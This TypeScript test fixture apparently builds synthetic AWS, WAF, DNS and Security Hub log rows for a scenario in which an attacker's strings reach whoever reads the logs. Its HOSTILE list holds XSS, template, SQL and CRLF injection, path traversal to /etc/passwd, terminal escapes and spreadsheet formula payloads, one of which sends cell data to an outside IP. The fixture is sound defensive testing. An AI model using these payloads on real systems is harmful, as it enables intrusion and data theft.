import { aclOf } from '../bulk/waf'
import { PROD, SHARED } from '../company'
import { hostOf } from '../hosts'
import { asRole, call, uuidOf } from './calls'
import { type Ago, later, noRows, type Story, stampOf } from './story'

const RTL = '\u202e'
const ZERO_WIDTH = '\u200b'

/** What an attacker may write wherever logs let him: everything that shows a value must leave it a value. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror=window.__pwned=1>',
  '</script><script>window.__pwned=1</script>',
  '"><svg/onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
  "{{constructor.constructor('window.__pwned=1')()}}",
  `{{7*7}} ${'$'}{7*7} <%= 7*7 %>`,
  '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '＝1+1',
  'a,"b";c\r\n2026-01-01T00:00:00Z root ConsoleLogin Success',
  '\u001b]0;pwn\u0007\u001b[2J\u001b[31mred',
  `invoice${RTL}fdp.exe`,
  `admin${ZERO_WIDTH}istrator`,
  '\u2066\u202eevil\u2069',
  '__proto__',
  'constructor',
  "'; DROP TABLE sh_findings; --",
  "' OR '1'='1' /*",
  `e${'\u0301'.repeat(200)}`,
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie:%20pwned=1',
  `A${'a'.repeat(9_000)}Z`,
  '🐟\u{1f468}\u200d\u{1f469}\u200d\u{1f467} 日本語 العربية',
]

const TITLES: readonly string[] = [
  HOSTILE[0] ?? '',
  HOSTILE[6] ?? '',
  HOSTILE[14] ?? '',
  HOSTILE[4] ?? '',
  `${'Long '.repeat(400)}title`,
  HOSTILE[19] ?? '',
]

/** Somebody feeds strings that are meant for whoever reads the logs. */
export function hostileStrings(ago: Ago): Story {
  const ip = '203.0.113.66'
  const begin = ago(0, 9, 0)
  const rows = noRows()
  const host = hostOf('web', 'us-east-1', 1)
  HOSTILE.forEach((text, k) => {
    const at = later(begin, k * 13)
    // A session name may hold letters, digits and =,.@-_ : those that pass are names, the others are agents only.
    const session = /^[\w+=,.@-]{2,64}$/.test(text) ? text : `probe-${k}`
    rows.mgmt.push(
      call({
        at,
        as: asRole(
          'partner-upload-role',
          session,
          PROD,
          `ASIAQPROBE${String(k).padStart(2, '0')}STRINGS7`,
          later(at, -60),
        ),
        account: PROD,
        region: 'us-east-1',
        service: 's3',
        operation: 'ListBuckets',
        ip,
        agent: text,
        error: 'AccessDenied',
        message: `User: arn:aws:sts::${PROD}:assumed-role/partner-upload-role/${session} is not authorized to perform: s3:ListAllMyBuckets`,
        request: { note: text.slice(0, 300), ['__proto__']: { polluted: true } },
      }),
    )
    rows.waf.push({
      t: stampOf(later(at, 2)),
      uid: uuidOf(`hostile${k}${begin.getTime()}`),
      region: 'us-east-1',
      account: PROD,
      acl: aclOf('us-east-1'),
      balancer: `${PROD}-app/shop-us-east-1/50dc6c495c0c9188`,
      verdict: k % 3 === 0 ? 'BLOCK' : 'ALLOW',
      rule: k % 3 === 0 ? 'AWS-AWSManagedRulesCommonRuleSet' : 'Default_Action',
      rule_type: k % 3 === 0 ? 'MANAGED_RULE_GROUP' : 'REGULAR',
      ip,
      country: 'NL',
      path: `/search/${text.slice(0, 80)}`,
      args: `q=${text.slice(0, 2_000)}`,
      method: 'GET',
      host: 'shop.kestrel.example',
      agent: text,
      referrer: text.slice(0, 500),
      ...(k % 3 === 0
        ? { condition: 'XSS', location: 'QUERY_STRING', matched: [text.slice(0, 100)], status: 403 }
        : {}),
    })
    rows.dns.push({
      t: stampOf(later(at, 4)),
      region: host.region,
      account: PROD,
      vpc: host.vpc,
      ip: host.ip,
      port: 30_000 + k,
      instance: host.instance,
      hostname: `${text.slice(0, 60)}.probe.example.`,
      type: 'TXT',
      answer_type: 'TXT',
      answers: [`"${text.slice(0, 200)}"`],
      rcode: 'NoError',
      rcode_id: 0,
    })
  })
  const long = `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.probe.example.`
  rows.dns.push({
    t: stampOf(later(begin, 400)),
    region: host.region,
    account: PROD,
    vpc: host.vpc,
    ip: host.ip,
    port: 30_999,
    instance: host.instance,
    hostname: long,
    type: 'A',
    answers: [],
    rcode: 'NXDomain',
    rcode_id: 3,
  })
  TITLES.forEach((title, k) => {
    rows.findings.push({
      kind: 'detection',
      uid: `arn:aws:securityhub:us-east-1:${SHARED}:product/${SHARED}/default/probe-${k}`,
      product: 'IAM Access Analyzer',
      account: SHARED,
      region: 'us-east-1',
      generator: 'aws/access-analyzer',
      title,
      desc: HOSTILE[(k * 5 + 1) % HOSTILE.length] ?? '',
      types: ['Software and Configuration Checks/AWS Security Best Practices/External Access Granted'],
      severity: 2,
      firstSeen: later(begin, -600),
      resources: [
        {
          type: 'AwsS3Bucket',
          uid: `arn:aws:s3:::probe-${k}-${HOSTILE[(k * 3) % 6]}`,
          labels: [`Owner=${HOSTILE[k]}`],
          details: { Other: { __note__: HOSTILE[k + 6] } },
        },
      ],
      remediation: { desc: "If the access isn't intended, change the policy.", url: 'javascript:window.__pwned=1' },
      states: [
        { at: later(begin, 500 + k) },
        { at: later(begin, 9_000 + k), note: HOSTILE[(k + 12) % HOSTILE.length] ?? '' },
      ],
    })
  })
  return {
    about: {
      id: 'hostile-strings',
      title: 'Strings meant for the reader of the logs',
      verdict: 'malicious',
      steps: [
        `${ip} calls, searches and looks up names made of script, formula, escape and direction characters.`,
        'All calls are refused. The strings must stay inert wherever they are shown, exported or printed.',
      ],
      principals: [],
      ips: [ip],
      keys: [],
    },
    rows,
  }
}
